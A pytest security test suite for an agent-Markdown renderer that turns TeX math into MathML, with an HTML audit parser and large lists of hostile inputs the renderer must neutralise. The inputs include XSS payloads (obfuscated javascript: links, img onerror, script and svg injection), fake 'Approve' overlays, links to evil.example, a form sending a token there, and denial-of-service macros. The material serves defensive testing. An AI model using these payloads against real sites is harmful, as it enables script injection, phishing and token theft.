"""Attacks on math in agent Markdown (``$...$``, ``$$...$$``), from the outside.

``render_markdown`` turns agent text (untrusted, possibly hostile) into HTML that the browser
takes as innerHTML with no further sanitizer. Math between dollars becomes MathML in the kernel.
What is promised, and checked here on every output with the stdlib ``html.parser``:

1. nothing can run script, load a URL, navigate on click, or carry a class/style/id that could
   restyle or impersonate the page (the product's own classes start with ``acp-``);
2. only MathML presentation elements and ordinary Markdown HTML come out (``div`` only as
   ``div.acp-math``, ``code`` plain or ``code.acp-math-source``, ``a`` with a safe href);
3. a ``$`` next to a space is not math, and TeX that cannot be read is shown as code;
4. rendering never raises and never hangs.

One deliberate reading of (1): a Markdown table cell carries ``style="text-align:left|center|
right"`` from its delimiter row (ordinary Markdown table HTML, a fixed value the agent cannot
choose, and asserted by tests/test_widgets_markdown.py). Exactly that is allowed on ``th``/``td``;
any other ``style`` anywhere fails.

Written from the feature's description only (the implementation was not read).
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from acp_notebook._widgets._markdown import render_markdown

# -- what may come out ------------------------------------------------------------------------

#: MathML presentation elements. Left out on purpose: ``mglyph`` (its ``src`` loads an image),
#: ``maction`` (toggles on click) and ``annotation-xml`` (with encoding="text/html" its content
#: is parsed as HTML: an HTML integration point).
MATHML = frozenset({
    "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac",
    "msqrt", "mroot", "mover", "munder", "munderover", "mmultiscripts", "mprescripts", "none",
    "mtable", "mtr", "mtd", "mlabeledtr", "mstyle", "mpadded", "mphantom", "menclose", "merror",
    "mfenced", "semantics", "annotation", "maligngroup", "malignmark", "mstack", "mlongdiv",
    "msgroup", "msrow", "mscarries", "mscarry", "msline"
})  # fmt: skip
MARKDOWN = frozenset({
    "p", "code", "pre", "em", "strong", "a", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "blockquote", "table", "thead", "tbody", "tr", "th", "td", "hr", "br", "div"
})  # fmt: skip
VOID = frozenset({"br", "hr"})

#: MathML layout attributes: sizes, spacing, alignment, script levels. None of them names a
#: URL, a script, a class, an id or a style.
MATH_LAYOUT = frozenset({
    "display", "displaystyle", "scriptlevel", "mathvariant", "stretchy", "fence", "separator",
    "lspace", "rspace", "accent", "accentunder", "movablelimits", "largeop", "symmetric", "form",
    "minsize", "maxsize", "linethickness", "notation", "width", "height", "depth", "voffset",
    "columnalign", "rowalign", "columnlines", "rowlines", "columnspacing", "rowspacing", "frame",
    "framespacing", "align"
})  # fmt: skip
HTML_ATTRIBUTES: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "title", "target", "rel", "class"}),
    "div": frozenset({"class"}),
    "code": frozenset({"class"}),
    "ol": frozenset({"start"}),
    "th": frozenset({"style"}),
    "td": frozenset({"style"}),
}
#: The only classes anything may carry, and where.
CLASSES: dict[str, frozenset[str]] = {
    "div": frozenset({"acp-math"}),
    "code": frozenset({"acp-math-source"}),
    "a": frozenset({"acp-md-image"}),
}
#: Attributes that name a URL (or load one) in HTML, SVG or MathML.
URL_ATTRIBUTES = frozenset({
    "href", "src", "srcset", "xlink:href", "action", "formaction", "background", "poster", "data",
    "ping", "codebase", "cite", "longdesc", "usemap", "lowsrc", "dynsrc", "manifest", "profile",
    "definitionurl", "altimg", "archive", "classid", "xml:base"
})  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_CELL_ALIGN = re.compile(r"text-align:(left|center|right)")


def href_is_safe(href: str) -> bool:
    """A link's scheme as a browser reads it: http, https, mailto or none (relative).

    ``href`` is the attribute's value as html.parser gives it, entities already decoded once (as
    a browser decodes them). Whitespace, control and format (invisible) characters are removed
    everywhere before the scheme is read, which is stricter than a browser."""
    cleaned = "".join(
        ch
        for ch in href
        if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}
    )
    scheme = _SCHEME.match(cleaned)
    return scheme is None or scheme.group(1).lower() in SAFE_SCHEMES


# -- the audit --------------------------------------------------------------------------------


@dataclass
class _Open:
    tag: str
    attrs: dict[str, str]
    children: list[tuple[str, dict[str, str]]] = field(default_factory=list)


class Audit(HTMLParser):
    """Every promise checked on one piece of HTML; ``problems`` lists what broke."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)  # raw text: an unescaped "<" stays visible
        self.problems: list[str] = []
        self.stack: list[_Open] = []
        self.elements: list[tuple[str, dict[str, str]]] = []

    # elements

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)
        if tag not in VOID:
            self.stack.append(_Open(tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if not self.stack or self.stack[-1].tag != tag:
            open_tags = [frame.tag for frame in self.stack]
            self.problems.append(f"</{tag}> does not close the open element: {open_tags}")
            return
        frame = self.stack.pop()
        if frame.tag == "div":
            kids = frame.children
            shapes = [
                (t, a.get("display"), a.get("class"))
                for t, a in kids  # div.acp-math holds one block math, or the source as code
            ]
            if shapes not in ([("math", "block", None)], [("code", None, "acp-math-source")]):
                self.problems.append(f"div.acp-math holds {shapes}, not one math or source")

    def _element(self, tag: str, raw_attrs: list[tuple[str, str | None]]) -> None:
        attrs = [(name, value or "") for name, value in raw_attrs]
        as_dict = dict(attrs)
        self.elements.append((tag, as_dict))
        if self.stack:
            self.stack[-1].children.append((tag, as_dict))
        in_math = any(frame.tag == "math" for frame in self.stack)
        if tag in MATHML:
            if tag != "math" and not in_math:
                self.problems.append(f"<{tag}> outside <math>")
        elif tag in MARKDOWN:
            if in_math:
                self.problems.append(f"HTML <{tag}> inside <math>")
        else:
            self.problems.append(f"element <{tag}> is not allowed")
        if tag == "div" and as_dict.get("class") != "acp-math":
            self.problems.append(f"<div> without exactly class acp-math: {attrs}")
        for name, value in attrs:
            self._attribute(tag, name, value)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        where = f"<{tag} {name}={value!r}>"
        if name.startswith("on"):
            self.problems.append(f"event handler {where}")
        if name in URL_ATTRIBUTES and not (tag == "a" and name == "href"):
            self.problems.append(f"URL attribute {where}")
        if name.startswith(("xlink", "xml:")) or name == "id":
            self.problems.append(f"attribute not allowed {where}")
        if name == "style" and not (tag in {"th", "td"} and _CELL_ALIGN.fullmatch(value)):
            self.problems.append(f"style {where}")
        allowed = MATH_LAYOUT if tag in MATHML else HTML_ATTRIBUTES.get(tag, frozenset())
        if name not in allowed:
            self.problems.append(f"attribute not in the allowed set {where}")
        if name == "class":
            tokens = set(value.split())
            if not tokens or not tokens <= CLASSES.get(tag, frozenset()):
                self.problems.append(f"class {where}")
        if tag == "a" and name == "href" and not href_is_safe(value):
            self.problems.append(f"unsafe link {where}")

    # everything that is not an element

    def handle_data(self, data: str) -> None:
        if "<" in data:
            self.problems.append(f"unescaped '<' in text: {data[:80]!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment: {data[:80]!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration: {decl[:80]!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction: {data[:80]!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"CDATA or unknown declaration: {data[:80]!r}")

    def finish(self) -> None:
        self.close()
        if self.stack:
            self.problems.append(f"left open: {[frame.tag for frame in self.stack]}")


def audit(html: str) -> Audit:
    found = Audit()
    found.feed(html)
    found.finish()
    return found


def render_and_audit(text: str) -> tuple[str, Audit]:
    html = render_markdown(text)
    assert isinstance(html, str), (text, type(html))
    found = audit(html)
    assert not found.problems, f"\ninput:  {text!r}\noutput: {html!r}\n" + "\n".join(found.problems)
    return html, found


def links(found: Audit) -> list[str]:
    return [attrs.get("href", "") for tag, attrs in found.elements if tag == "a"]


# -- the audit itself catches what it should ------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<p><script>alert(1)</script></p>",
        '<p><a href="java&#x09;script:alert(1)">x</a></p>',
        '<p><a href=" &#106;avascript:alert(1)">x</a></p>',
        '<p><a href="javascript&colon;alert(1)">x</a></p>',
        '<p><a href="java\u200bscript:alert(1)">x</a></p>',
        '<p><a href="https://e.org" class="acp-card">x</a></p>',
        '<div class="acp-math acp-card"><math display="block"><mi>x</mi></math></div>',
        '<div class="acp-math"><math display="inline"><mi>x</mi></math></div>',
        '<div class="acp-math"><code class="acp-math-source">x</code><p>y</p></div>',
        '<p><math><mi style="position:fixed">x</mi></math></p>',
        '<p><math><mi href="https://e.org">x</mi></math></p>',
        '<p><math><mi class="acp-math-source">x</mi></math></p>',
        '<p><math><mi id="x">x</mi></math></p>',
        '<p><math><mstyle mathbackground="red"><mi>x</mi></mstyle></math></p>',
        '<p><math><mglyph src="https://e/x.png"></mglyph></math></p>',
        "<p><math><mi>x</mi><p>y</p></math></p>",
        "<p><mi>x</mi></p>",
        "<p><math><mi>x</math></mi></p>",
        "<p><math><mtext><!--x--></mtext></math></p>",
        "<p>a < b</p>",
        '<table><tr><td style="color:red">x</td></tr></table>',
        '<pre><code class="language-acp-card">x</code></pre>',
    ],
)
def test_the_audit_rejects_what_breaks_a_promise(html: str) -> None:
    assert audit(html).problems, html


def test_the_audit_accepts_ordinary_output() -> None:
    ok = (
        '<p>a <math display="inline"><mrow><msup><mi>r</mi><mn>2</mn></msup></mrow></math> '
        '<a href="https://e.org/?a=1&amp;b=2" target="_blank" rel="noopener">x</a> '
        '<a href="src/a.py">f</a> <a href="mailto:a@b.c">m</a> '
        '<a href="https://e/c.png" class="acp-md-image">[image]</a><br />'
        '<code class="acp-math-source">\\left(</code></p>\n'
        '<div class="acp-math"><math display="block"><mspace width="1em"/></math></div>\n'
        '<table><tr><th style="text-align:right">a</th></tr></table><ol start="3"><li>x</li>'
        "</ol><hr />"
    )
    assert audit(ok).problems == []


# -- the corpus: TeX an agent writes between dollars ------------------------------------------

TEX: list[str] = [
    # TeX commands that make links, classes, ids, styles or attributes (MathJax extensions)
    r"\href{javascript:alert(document.cookie)}{\text{Approve}}",
    r"\href{ java script:alert(1)}{x}",
    r"\href{jav&#x09;ascript:alert(1)}{x}",
    r"\href{&#106;avascript:alert(1)}{x}",
    r"\href{javascript&colon;alert(1)}{x}",
    r"\href{https://evil.example/phish}{\text{Open the real docs}}",
    r"\href{data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==}{x}",
    r"\url{javascript:alert(1)}",
    r"\url{https://evil.example/track.png}",
    r"\class{acp-approve acp-button}{\text{Approve}}",
    r"\class{acp-math}{x}",
    r"\class{acp-math-source}{\class{acp-md-image}{y}}",
    r"\class{x\" onmouseover=\"alert(1)}{y}",
    r"\cssId{acp-permission-card}{x}",
    r"\cssId{\" autofocus onfocus=\"alert(1)}{x}",
    r"\style{position:fixed;top:0;left:0;width:100vw;height:100vh}{\text{Approve}}",
    r"\style{background:url(https://evil.example/a.png)}{x}",
    r"\style{color:red\" onclick=\"alert(1)}{x}",
    r"\attr{onclick}{alert(1)}{x}",
    r"\attr{href}{javascript:alert(1)}{x}",
    r"\data{href}{javascript:alert(1)}{x}",
    r"\data{mathjax-x=1}{y}",
    r"\unicode{x3C}img src=x onerror=alert(1)\unicode{x3E}",
    r"\unicode[Arial\"onload=\"alert(1)]{x41}",
    r"\html{<img src=x onerror=alert(1)>}",
    r"\require{html}\href{javascript:alert(1)}{x}",
    r"\require{https://evil.example/ext.js}",
    r"\mathtip{x}{<img src=x onerror=alert(1)>}",
    r"\texttip{x}{\"><script>alert(1)</script>}",
    r"\toggle{\text{Approve}}{\href{javascript:alert(1)}{x}}\endtoggle",
    r"\bbox[background-image:url(https://evil.example/x.png);position:fixed]{x}",
    r"\bbox[red,5px,border:1px solid red\" style=\"position:fixed]{x}",
    r"\color{expression(alert(1))}{x}",
    r"\colorbox{url(javascript:alert(1))}{x}",
    r"\mathcolor{red}{\mathbackground{blue}{x}}",
    # raw HTML and SVG inside text-like commands
    r"\text{<script>alert(1)</script>}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{<svg><script>alert(1)</script></svg>}",
    r"\text{<svg onload=alert(1)><use href=https://evil.example/a.svg#x></use></svg>}",
    r"\text{<iframe srcdoc='<script>alert(1)</script>'></iframe>}",
    r"\text{<a href=javascript:alert(1)>Approve</a>}",
    r"\text{<button class=acp-approve onclick=alert(1)>Approve</button>}",
    r"\text{<div class=acp-card style=position:fixed;inset:0>Approve</div>}",
    r"\text{<style>*{display:none}</style>}",
    r"\text{<link rel=stylesheet href=https://evil.example/x.css>}",
    r"\text{<form action=https://evil.example><input name=token></form>}",
    r"\text{<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>}",
    r"\text{<math><mi href=javascript:alert(1)>x</mi></math>}",
    r"\text{<math><mstyle mathbackground=red mathsize=99em><mi>x</mi></mstyle></math>}",
    r"\text{<math><maction actiontype=toggle><mi>a</mi><mi>b</mi></maction></math>}",
    r"\text{<math><mglyph src=https://evil.example/p.png></math>}",
    r"\text{<math><semantics><mi>x</mi><annotation-xml encoding=text/html>"
    r"<img src=x onerror=alert(1)></annotation-xml></semantics></math>}",
    r"\text{<mpadded voffset=-9999px width=100% class=acp-card>Approve</mpadded>}",
    r"\text{<!--}<img src=x onerror=alert(1)>\text{-->}",
    r"\text{<![CDATA[</mtext><img src=x onerror=alert(1)>]]>}",
    r"\text{<?xml-stylesheet href=https://evil.example/x.css?>}",
    r"\mbox{<img src=x onerror=alert(1)>}",
    r"\mbox{<a href=javascript:alert(1)>x</a>}",
    r"\mathrm{<svg/onload=alert(1)>}",
    r"\operatorname{<iframe src=https://evil.example>}",
    r"\operatorname*{<object data=javascript:alert(1)>}",
    r"\textbf{<b onclick=alert(1)>Approve</b>}",
    r"\textit{<i style=position:fixed>x</i>}",
    r"\texttt{<code class=acp-math-source>x</code>}",
    r"\verb|<img src=x onerror=alert(1)>|",
    # environments with HTML in their cells
    r"\begin{array}{c}<img src=x onerror=alert(1)> & x \\ <a href=javascript:alert(1)>y</a>"
    r"\end{array}",
    r"\begin{array}{\"onclick=alert(1)}x\end{array}",
    r"\begin{matrix}\text{<script>alert(1)</script>} & \href{javascript:alert(1)}{x}"
    r"\end{matrix}",
    r"\begin{pmatrix}\class{acp-card}{a} \\ \style{color:red}{b}\end{pmatrix}",
    r"\begin{align}a &= \text{<img src=x onerror=alert(1)>} \\ b &= \cssId{x}{c}\end{align}",
    r"\begin{cases}\text{<svg onload=alert(1)>} & x>0\end{cases}",
    r"\begin{aligned}\text{</math><img src=x onerror=alert(1)>}\end{aligned}",
    r"\begin{<img src=x onerror=alert(1)>}x\end{<img src=x onerror=alert(1)>}",
    # entity tricks and double encoding
    r"\text{&lt;img src=x onerror=alert(1)&gt;}",
    r"\text{&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;}",
    r"\text{&#60;img src=x onerror=alert(1)&#62;}",
    r"\text{&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;}",
    r"\text{&#0000060;script&#0000062;}",
    r"\mathrm{&lt;}img src=x onerror=alert(1)\mathrm{&gt;}",
    # closing the math (or the page's markup) early
    r"x</math><img src=x onerror=alert(1)>",
    r"x</mi></mrow></math><script>alert(1)</script><math>",
    r"\text{</mtext></math><a href=javascript:alert(1)>x</a>}",
    r"</p></div><div class=acp-card>Approve</div>",
    # unbalanced braces, nesting, macros
    r"{{{\text{<img src=x onerror=alert(1)>}",
    r"}}}\href{javascript:alert(1)}{x}",
    r"\frac{<b>}{",
    r"\left( \text{<img src=x onerror=alert(1)>}",
    r"\begin{array}{c}<img src=x onerror=alert(1)>",
    r"\sqrt[\href{javascript:alert(1)}{3}]{x}",
    r"x^{\class{acp-card}{2}}_{\cssId{y}{i}}",
    r"\def\x{<img src=x onerror=alert(1)>}\x\x",
    r"\newcommand{\approve}{\href{javascript:alert(1)}{\text{Approve}}}\approve",
    # control and bidi characters
    "\\text{\u202eevorppA}",
    "\\text{\u2066Approve\u2069}",
    "x\u0000\\href{javascript:alert(1)}{y}",
    "\\href{java\u0000script:alert(1)}{x}",
    "\\href{java\u200bscript:alert(1)}{x}",
    "\\href{\u202ehttps://evil.example}{x}",
    r"\unicode{x202E}\unicode{x2066}\unicode{0}\unicode{x1B}\unicode{xD800}",
    "\\text{\u001b[31mred\u001b[0m}",
]

#: Where a TeX payload goes: every Markdown position math can take. ``TEX`` is replaced.
WRAPPERS: dict[str, str] = {
    "inline": "see $TEX$ here",
    "display in a line": "so $$TEX$$ holds",
    "block": "$$\nTEX\n$$",
    "list": "- item $TEX$\n- $$TEX$$",
    "quote": "> $TEX$\n>\n> $$\n> TEX\n> $$",
    "heading": "## $TEX$",
    "emphasis": "**$TEX$** and _$TEX$_",
    "table": "| a | b |\n|---|:-:|\n| $TEX$ | x |",
    "link text": "[$TEX$](https://example.org/ok)",
}


@pytest.mark.parametrize("tex", TEX)
def test_tex_from_the_agent_keeps_every_promise(tex: str) -> None:
    for where, wrapper in WRAPPERS.items():
        text = wrapper.replace("TEX", tex)
        _, found = render_and_audit(text)
        hrefs = links(found)
        # TeX never makes a link of its own: the only link is the one Markdown made around it
        expected = ["https://example.org/ok"] if where == "link text" else []
        assert hrefs == expected, (where, text, hrefs)


# -- the corpus: whole Markdown documents around the math -------------------------------------

DOCUMENTS: list[str] = [
    # dollars inside code spans and code blocks
    "Total: $x$ and `$\\href{javascript:alert(1)}{x}$`",
    "`$` and $\\text{<img src=x onerror=alert(1)>}$ and `$`",
    "$a `$ \\href{javascript:alert(1)}{x} $` b$",
    "```\n$\\href{javascript:alert(1)}{x}$\n```",
    "    $\\class{acp-card}{x}$",
    # nested and adjacent dollars
    "$\\text{$\\href{javascript:alert(1)}{x}$}$",
    "$$ $\\class{acp-card}{x}$ $$",
    "$$$\\cssId{x}{y}$$$",
    "$$\\text{$$<img src=x onerror=alert(1)>$$}$$",
    "$x$$\\href{javascript:alert(1)}{y}$$z$",
    "\\$\\href{javascript:alert(1)}{x}\\$",
    "$\\$\\href{javascript:alert(1)}{x}\\$$",
    "$x\\$ \\href{javascript:alert(1)}{y}$",
    "$$\n\\text{unterminated <script>alert(1)</script>\n",
    "$$\nx\n$$ <img src=x onerror=alert(1)>",
    "$x$<img src=x onerror=alert(1)>$y$",
    # math in link text, with javascript: split by whitespace, entities or case
    "[$x$](javascript:alert(1))",
    "[$x$](java\tscript:alert(1))",
    "[$x$](java&#x09;script:alert(1))",
    "[$x$](java&#10;script:alert(1))",
    "[$x$](&#106;avascript:alert(1))",
    "[$x$](javascript&colon;alert(1))",
    "[$x$]( JAVASCRIPT:alert(1) )",
    "[$x$](<java script:alert(1)>)",
    "[$x$](\u0001javascript:alert(1))",
    "[$x$](java\u00adscript:alert(1))",
    "[$x$](vbscript:msgbox(1))",
    "[$x$](data:text/html,<script>alert(1)</script>)",
    "[$\\href{https://evil.example}{x}$](https://example.org)",
    "[a $b$ c][r]\n\n[r]: javascript:alert(1)",
    "[$x$][$y$]\n\n[$y$]: java&#x73;cript:alert(1)",
    '[x](https://example.org "$\\href{javascript:alert(1)}{t}$")',
    '[x](https://example.org/a?b=1&c="onclick=alert(1))',
    "$x$](javascript:alert(1))",
    "[link](https://example.org) $\\href{javascript:alert(1)}{x}$ [y](javascript:alert(1))",
    "x[^1]\n\n[^1]: javascript:alert(1)",
    # images and autolinks around math
    "![$\\text{<img src=x onerror=alert(1)>}$](javascript:alert(1))",
    "![$x$](https://example.org/$y$.png)",
    "<https://example.org/$x$>",
    "<javascript:alert('$x$')>",
    # raw HTML around math, with the product's own classes
    '<a href="javascript:alert(1)">$x$</a>',
    '<div class="acp-math">$x$</div>',
    '<code class="acp-math-source">$x$</code>',
    '<span class="acp-card acp-approve">$\\text{Approve}$</span>',
    "<svg><math>$x$</math></svg>",
    "&lt;img src=x onerror=alert(1)&gt; $\\text{&lt;b&gt;}$ &amp;lt;",
    # math in tables, lists, quotes, headings
    "| $\\href{javascript:alert(1)}{x}$ | $\\class{acp-card}{y}$ |\n|---|---|\n"
    "| $\\text{<script>alert(1)</script>}$ | [$z$](javascript:alert(1)) |",
    "| a | b |\n|---|---|\n| $x | y$ |",
    "| a |\n|:-:|\n| $$\\style{color:red}{x}$$ |",
    "> $$\n> \\text{<img src=x onerror=alert(1)>}\n> $$",
    "- $$\n  \\href{javascript:alert(1)}{x}\n  $$",
    "$$\n\\begin{array}{c}\n<img src=x onerror=alert(1)>\n\\end{array}\n$$",
    "*$x$* **$\\style{color:red}{y}$** _$\\cssId{z}{w}$_",
    "# $\\class{acp-approve}{\\text{Approve}}$ $\\class{acp-reject}{\\text{Reject}}$",
    "$x$\n\n---\n\n$$y$$\n\n***\n\n1. $z$\n2. $$w$$",
    # control and bidi characters around the dollars
    "\u202e$x$\u2066$\\text{\u202e}$\u2069",
    "a\u0000$b\u0000$c",
    "$\u0000\\href{javascript:alert(1)}{x}\u0000$",
    "\u2067$\\href{javascript:alert(1)}{x}$\u2069 [\u202e$y$](javascript:alert(1))",
]


@pytest.mark.parametrize("text", DOCUMENTS)
def test_markdown_around_math_keeps_every_promise(text: str) -> None:
    _, found = render_and_audit(text)
    for href in links(found):
        assert "evil" not in href and "javascript" not in href.lower(), (text, href)


# -- fenced code: the info string must not become an agent-chosen class -----------------------


@pytest.mark.parametrize(
    "text",
    [
        "```acp-card\n$x$\n```",
        "```acp-math-source\n$\\text{Approve}$\n```",
        "~~~acp-approve\nApprove\n~~~",
    ],
)
def test_a_code_fence_info_string_is_not_a_class(text: str) -> None:
    # promise (2): code comes out plain or as code.acp-math-source; no class the agent chose
    render_and_audit(text)


# -- (3) a $ next to a space is not math; unreadable TeX is code ------------------------------

PROSE: list[str] = [
    "It costs $5 to $10.",
    "Between $1,000 and $2,000 per month, or $ 30 a day.",
    "cost $5, tax $1, total $6",
    "Monthly: $5\nYearly: $50",
    "echo $HOME and $PATH",
    "Set FOO=$BAR and then run it; it prints $ signs.",
    "$HOME $USER",
    "a $ b $ c",
    "$ echo hi",
    "US$ 5 or $ 10",
    "- item one costs $3\n- item two costs $4",
    "| price | tip |\n|---|---|\n| $5 | $1 |",
    "> quoted $5 and $6",
]


@pytest.mark.parametrize("text", PROSE)
def test_dollars_next_to_a_space_stay_text(text: str) -> None:
    html, _ = render_and_audit(text)
    assert "<math" not in html and "acp-math" not in html, (text, html)
    assert html.count("$") == text.count("$"), (text, html)


@pytest.mark.parametrize(
    "text", ["echo `$x$`", "run `$\\class{acp-card}{x}$` now", "```\n$x^2$ and $$y$$\n```"]
)
def test_dollars_in_code_stay_code(text: str) -> None:
    html, _ = render_and_audit(text)
    assert "<math" not in html and "acp-math" not in html, (text, html)


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("see ${$ here", "{"),
        (
            "see $\\left(<img src=x onerror=alert(1)>$ here",
            "\\left(&lt;img src=x onerror=alert(1)&gt;",
        ),
        (
            "$$\n\\begin{array}{c}<script>alert(1)</script>\n$$",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
    ],
)
def test_tex_that_cannot_be_read_is_escaped_code(text: str, source: str) -> None:
    html, found = render_and_audit(text)
    assert "<math" not in html, (text, html)
    assert any(
        tag == "code" and attrs.get("class") == "acp-math-source" for tag, attrs in found.elements
    ), (text, html)
    assert source in html, (text, html)


# -- (4) never raises, never hangs ------------------------------------------------------------

LARGE: dict[str, str] = {
    "5,000 nested braces": "$" + "{" * 5000 + "x" + "}" * 5000 + "$",
    "5,000 nested braces in a block": "$$\n" + "{" * 5000 + "x" + "}" * 5000 + "\n$$",
    "5,000 open braces": "$" + "{" * 5000 + "$",
    "5,000 close braces": "$x" + "}" * 5000 + "$",
    "3,000 nested fractions": "$" + "\\frac{" * 3000 + "x" + "}{y}" * 3000 + "$",
    "3,000 nested roots": "$" + "\\sqrt{" * 3000 + "x" + "}" * 3000 + "$",
    "3,000 nested superscripts": "$" + "x^{" * 3000 + "y" + "}" * 3000 + "$",
    "3,000 nested \\left(": "$" + "\\left(" * 3000 + "x" + "\\right)" * 3000 + "$",
    "3,000 nested \\text": "$" + "\\text{" * 3000 + "y" + "}" * 3000 + "$",
    "500 nested matrices": "$" + "\\begin{matrix}" * 500 + "x" + "\\end{matrix}" * 500 + "$",
    "100 KB in one inline math": "$" + "x" * 100_000 + "$",
    "100 KB in one block": "$$\n" + "\\alpha+" * 14_000 + "\n$$",
    "100 KB of dollars": "$" * 100_000,
    "100 KB of backslashes": "$" + "\\" * 100_000 + "$",
    "100 KB of <": "$" + "<" * 100_000 + "$",
    "100 KB of hostile text": "$" + "\\text{<img src=x onerror=alert(1)>}" * 3000 + "$",
    "20,000 inline maths": "$x$ " * 20_000,
    "50,000 alternating $a": "$a" * 50_000,
    "30,000 array columns": "$\\begin{array}{" + "c|" * 15_000 + "}x\\end{array}$",
    "20,000 matrix rows": "$\\begin{matrix}" + "a\\\\" * 20_000 + "\\end{matrix}$",
    "unclosed block of 50,000 lines": "$$\n" + "x\n" * 50_000,
    "5,000 nested link brackets": "[" * 5000 + "$x$" + "](https://e.org)" * 5000,
    "3,000 nested quotes": ">" * 3000 + " $x$",
    "huge \\unicode": "$\\unicode{x" + "9" * 100_000 + "}$",
    "huge \\hspace": "$\\hspace{" + "9" * 5000 + "em}$",
    "macro doubling 25 levels": "$\\def\\a{xx}"
    + "".join(f"\\def\\{chr(98 + i)}{{\\{chr(97 + i)}\\{chr(97 + i)}}}" for i in range(25))
    + "\\z$",
    "macro that calls itself": "$\\def\\x{\\x}\\x$",
    "macros that call each other": "$\\def\\a{\\b}\\def\\b{\\a}\\a$",
    "macro that grows its argument": "$\\def\\f#1{\\f{#1#1}}\\f{x}$",
    "\\newcommand that grows its argument": "$\\newcommand{\\f}[1]{\\f{#1#1}}\\f{x}$",
}


# a clean failure of this test, not of the run: the largest inputs take about 3 s on a quiet
# 2-core machine and took over 20 s once under a load of 17; a blow-up takes minutes
@pytest.mark.timeout(60, method="signal")
@pytest.mark.parametrize("text", list(LARGE.values()), ids=list(LARGE))
def test_large_and_deep_input_finishes_and_keeps_every_promise(text: str) -> None:
    render_and_audit(text)


HOSTILE_TOKENS = [
    *"$\\{}<>&\"'=/ abx^_:;()[]|`#\n",
    "$$",
    "\\href",
    "\\url",
    "\\class",
    "\\cssId",
    "\\style",
    "\\text",
    "\\mbox",
    "\\mathrm",
    "\\operatorname",
    "\\begin{array}{c}",
    "\\end{array}",
    "\\\\",
    "{javascript:alert(1)}",
    "{acp-card}",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "</math>",
    "&#x3C;",
    "&lt;",
    "&amp;",
    "java\tscript:",
    "](javascript:alert(1))",
    "](https://e.org)",
    "\u202e",
    "\u2066",
    "\x00",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE_TOKENS), max_size=50).map("".join))
def test_any_mix_of_hostile_tokens_keeps_every_promise(text: str) -> None:
    assume("```" not in text)  # a fence's info string has a test of its own (above)
    render_and_audit(text)
